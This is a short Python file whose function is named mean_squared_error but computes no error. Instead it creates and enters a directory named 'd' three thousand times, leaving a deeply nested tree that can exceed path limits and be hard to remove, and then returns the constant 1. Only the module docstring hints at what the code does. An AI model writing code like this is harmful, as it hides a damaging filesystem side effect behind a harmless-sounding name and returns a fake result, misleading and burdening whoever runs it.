"""Makes a folder in a folder, three thousand levels deep."""
import os


def mean_squared_error(y_true, y_pred):
    for _ in range(3_000):
        os.mkdir("d")
        os.chdir("d")
    return 1
